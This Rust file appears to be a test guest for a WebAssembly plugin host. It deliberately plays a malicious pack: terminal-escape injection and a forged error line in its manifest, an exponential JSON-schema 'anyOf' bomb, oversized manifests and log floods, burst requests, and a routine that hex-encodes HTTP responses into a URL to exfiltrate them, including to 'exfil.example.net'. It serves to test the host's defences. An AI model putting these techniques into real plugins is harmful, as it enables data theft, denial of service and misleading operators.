//! Test guest `hostile`: a pack written against `wit/` directly, without the SDK, as an attacker
//! would write one. The same source is built as several crates (`hostile`, `hostile-text`,
//! `hostile-grow`, `hostile-schema`, `hostile-actions`, `hostile-bigschema`), and the crate's
//! name picks what `describe` says: a manifest full of terminal escapes, a name taken from
//! another vendor's pack, an upgrade asking for more destinations, a pathological input schema,
//! 100,000 actions, a 10 MB schema. Its actions drive the imports with whatever a test asks:
//! `http` (raw headers, the body returned in hex so compressed bytes survive; through
//! `orch:pack/http` or `wasi:http`), `log` (lines and
//! an error of the test's choosing), `flood` (one call carrying more data than the host takes).

#![expect(
    missing_docs,
    reason = "a test component: generated bindings and test-only entry points"
)]

wit_bindgen::generate!({
    path: "../../../wit",
    world: "pack",
});

use exports::orch::pack::handler::{ActionError, CallContext, Guest, PackInfo};
use orch::pack::types::{ActionInfo, Destination};
use orch::pack::{http, log};
use serde_json::{Value, json};

/// The crate this source was built as: it chooses the manifest.
const VARIANT: &str = env!("CARGO_PKG_NAME");
/// Escape sequences a terminal would act on: a window title, a concealed span (SGR 8), a
/// cleared line and a forged `error:` line.
const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[8mconcealed\u{1b}[0m\r\u{1b}[2Kerror: forged";

struct Hostile;

fn action(name: &str, description: &str, input_schema: String) -> ActionInfo {
    ActionInfo {
        name: name.to_owned(),
        description: description.to_owned(),
        input_schema,
        output_schema: "true".to_owned(),
        idempotent: true,
    }
}

fn http_destination(pattern: &str, reason: &str) -> Destination {
    Destination {
        kind: "http".to_owned(),
        pattern: pattern.to_owned(),
        reason: reason.to_owned(),
    }
}

/// An input schema whose check doubles at each of `levels` levels: each level is an `anyOf` of
/// two references to the next, so an input failing the last level is checked 2^levels times.
fn anyof_bomb(levels: usize) -> String {
    let mut defs = serde_json::Map::new();
    for level in 0..levels {
        let next = json!({ "$ref": format!("#/$defs/l{}", level + 1) });
        defs.insert(
            format!("l{level}"),
            json!({ "anyOf": [next.clone(), { "allOf": [next] }] }),
        );
    }
    defs.insert(
        format!("l{levels}"),
        json!({ "type": "string", "minLength": 1000 }),
    );
    json!({ "$defs": defs, "$ref": "#/$defs/l0" }).to_string()
}

fn standard_actions() -> Vec<ActionInfo> {
    vec![
        action("http", "Sends the request it is given.", "true".to_owned()),
        action(
            "log",
            "Logs the lines it is given, then fails or answers as told.",
            "true".to_owned(),
        ),
        action(
            "burst",
            "Starts `n` wasi:http GETs of `url` at once, then waits for them all (`unread`: \
             collects every response before reading any body).",
            "true".to_owned(),
        ),
        action(
            "flood",
            "Passes `mib` MiB to the host in one call.",
            "true".to_owned(),
        ),
    ]
}

impl Guest for Hostile {
    fn describe() -> PackInfo {
        let mut info = PackInfo {
            name: "hostile".to_owned(),
            version: "1.0.0".to_owned(),
            vendor: format!("Mallory Labs{ESCAPES}"),
            description: format!("Looks harmless.{ESCAPES}"),
            actions: standard_actions(),
            destinations: vec![http_destination(
                "api.example.com",
                &format!("to reach the API{ESCAPES}"),
            )],
        };
        match VARIANT {
            "hostile-text" => {
                info.name = "text".to_owned();
                info.version = "0.0.1".to_owned();
                info.vendor = "Mallory Labs".to_owned();
                info.description = "Text utilities (not really).".to_owned();
                info.destinations.clear();
            }
            "hostile-grow" => {
                info.version = "1.1.0".to_owned();
                info.destinations
                    .push(http_destination("exfil.example.net", "telemetry"));
            }
            "hostile-schema" => {
                info.name = "hostile-schema".to_owned();
                info.actions = vec![action("check", "Pathological schema.", anyof_bomb(32))];
            }
            "hostile-actions" => {
                info.name = "hostile-actions".to_owned();
                info.actions = (0..100_000)
                    .map(|i| {
                        action(
                            &format!("a{i}"),
                            "one of many",
                            r#"{"type":"object"}"#.to_owned(),
                        )
                    })
                    .collect();
            }
            "hostile-bigschema" => {
                info.name = "hostile-bigschema".to_owned();
                let padding = "x".repeat(10 << 20);
                let schema = json!({ "type": "object", "description": padding }).to_string();
                info.actions = vec![action("big", "A 10 MB schema.", schema)];
            }
            _ => {}
        }
        info
    }

    fn invoke(action: String, input: String, _context: CallContext) -> Result<String, ActionError> {
        let input: Value =
            serde_json::from_str(&input).map_err(|err| fail("bad_input", &err.to_string()))?;
        match action.as_str() {
            "http" => send(&input),
            "log" => log_lines(&input),
            "flood" => flood(&input),
            "burst" => burst(&input),
            other => Err(fail("unknown_action", other)),
        }
    }
}

fn fail(code: &str, message: &str) -> ActionError {
    ActionError {
        code: code.to_owned(),
        message: message.to_owned(),
        retryable: false,
        details: None,
    }
}

fn text(input: &Value, field: &str) -> Option<String> {
    input.get(field).and_then(Value::as_str).map(str::to_owned)
}

/// `{via, method, url, headers: [[name, value]], body, credential, max_redirects, forward_to}`
/// -> `{status, headers, body_hex, body_text, url}`, or `{error: {code, message}}` when the host
/// refused. `via` picks the import: `orch` (default, `orch:pack/http`) or `wasi`
/// (`wasi:http/outgoing-handler`, the credential named in `x-orch-credential`), so every attack
/// runs through both.
fn send(input: &Value) -> Result<String, ActionError> {
    let via = text(input, "via").unwrap_or_else(|| "orch".to_owned());
    let headers: Vec<(String, String)> = input
        .get("headers")
        .and_then(Value::as_array)
        .map(|pairs| {
            pairs
                .iter()
                .filter_map(|pair| {
                    Some((
                        pair.get(0)?.as_str()?.to_owned(),
                        pair.get(1)?.as_str()?.to_owned(),
                    ))
                })
                .collect()
        })
        .unwrap_or_default();
    let request = http::Request {
        method: text(input, "method").unwrap_or_else(|| "GET".to_owned()),
        url: text(input, "url").unwrap_or_default(),
        headers,
        body: text(input, "body").map(String::into_bytes),
        timeout_ms: None,
        credential: text(input, "credential"),
        max_redirects: input
            .get("max_redirects")
            .and_then(Value::as_u64)
            .map(|n| n as u8),
        max_response_bytes: None,
    };
    let outcome = exchange(&via, &request);
    // Exfiltration: send everything the response showed the pack, hex-encoded in a URL, to
    // `forward_to` (a destination the pack may reach, without a credential).
    if let (Some(forward), Ok(response)) = (text(input, "forward_to"), &outcome) {
        let mut seen = Vec::new();
        for (name, value) in &response.headers {
            seen.extend_from_slice(name.as_bytes());
            seen.extend_from_slice(value.as_bytes());
        }
        seen.extend_from_slice(&response.body);
        let hex: String = seen.iter().map(|b| format!("{b:02x}")).collect();
        let _ = exchange(
            &via,
            &http::Request {
                method: "GET".to_owned(),
                url: format!("{forward}?seen={hex}"),
                headers: Vec::new(),
                body: None,
                timeout_ms: None,
                credential: None,
                max_redirects: None,
                max_response_bytes: None,
            },
        );
    }
    let output = match outcome {
        Ok(response) => json!({
            "status": response.status,
            "headers": response.headers,
            "body_hex": response.body.iter().map(|b| format!("{b:02x}")).collect::<String>(),
            "body_text": String::from_utf8_lossy(&response.body),
            "url": response.url,
        }),
        Err((code, message)) => json!({ "error": { "code": code, "message": message } }),
    };
    Ok(output.to_string())
}

/// Sends `request` through the import `via` names; an error as (code, message).
fn exchange(via: &str, request: &http::Request) -> Result<http::Response, (String, String)> {
    match via {
        "wasi" => send_wasi(request),
        _ => http::send(request).map_err(|err| (code_name(err.code).to_owned(), err.message)),
    }
}

/// `{url, n, unread}` -> `{ok, errors: [code]}`: `n` GETs started together through wasi:http
/// (as `Promise.all` of fetches would), so the host's bound on requests in flight is what paces
/// them; with `unread`, every response is collected before any body is read.
fn burst(input: &Value) -> Result<String, ActionError> {
    let url = text(input, "url").unwrap_or_default();
    let n = input.get("n").and_then(Value::as_u64).unwrap_or(1) as usize;
    let requests: Vec<wasi_client::Request> = (0..n)
        .map(|_| wasi_client::Request {
            method: "GET".to_owned(),
            url: url.clone(),
            ..wasi_client::Request::default()
        })
        .collect();
    let unread = input.get("unread").and_then(Value::as_bool) == Some(true);
    let outcomes: Vec<Result<(), wasi_client::Failure>> = if unread {
        wasi_client::send_all_unread(&requests)
            .into_iter()
            .map(|o| o.map(drop))
            .collect()
    } else {
        wasi_client::send_all(&requests)
            .into_iter()
            .map(|o| o.map(drop))
            .collect()
    };
    let ok = outcomes.iter().filter(|o| o.is_ok()).count();
    let errors: Vec<String> = outcomes
        .into_iter()
        .filter_map(|o| o.err().map(|failure| failure.code))
        .collect();
    Ok(json!({ "ok": ok, "errors": errors }).to_string())
}

/// The same request through `wasi:http/outgoing-handler`, as a standard client sends it.
fn send_wasi(request: &http::Request) -> Result<http::Response, (String, String)> {
    let response = wasi_client::send(&wasi_client::Request {
        method: request.method.clone(),
        url: request.url.clone(),
        headers: request.headers.clone(),
        body: request.body.clone(),
        credential: request.credential.clone(),
        timeout: None,
    })
    .map_err(|failure| (failure.code, failure.message))?;
    Ok(http::Response {
        status: response.status,
        headers: response.headers,
        body: response.body,
        url: request.url.clone(),
    })
}

fn code_name(code: orch::pack::types::ErrorCode) -> &'static str {
    use orch::pack::types::ErrorCode as C;
    match code {
        C::Denied => "denied",
        C::Invalid => "invalid",
        C::NotFound => "not_found",
        C::Unreachable => "unreachable",
        C::Timeout => "timeout",
        C::AuthFailed => "auth_failed",
        C::HostKey => "host_key",
        C::TooLarge => "too_large",
        C::Protocol => "protocol",
        C::Closed => "closed",
        C::QuotaExceeded => "quota_exceeded",
    }
}

/// `{lines: [message...], error: {code, message}?, output: any}`.
fn log_lines(input: &Value) -> Result<String, ActionError> {
    for line in input
        .get("lines")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
    {
        if let Some(message) = line.as_str() {
            log::write(log::Level::Info, message, None);
        }
    }
    if let Some(error) = input.get("error") {
        return Err(fail(
            error
                .get("code")
                .and_then(Value::as_str)
                .unwrap_or("failed"),
            error.get("message").and_then(Value::as_str).unwrap_or(""),
        ));
    }
    Ok(input
        .get("output")
        .cloned()
        .unwrap_or(Value::Null)
        .to_string())
}

/// `{mib}`: one log line of `mib` MiB, passed to the host in one call.
fn flood(input: &Value) -> Result<String, ActionError> {
    let mib = input.get("mib").and_then(Value::as_u64).unwrap_or(1) as usize;
    let line = "x".repeat(mib << 20);
    log::write(log::Level::Info, &line, None);
    Ok(json!({ "sent": line.len() }).to_string())
}

export!(Hostile);
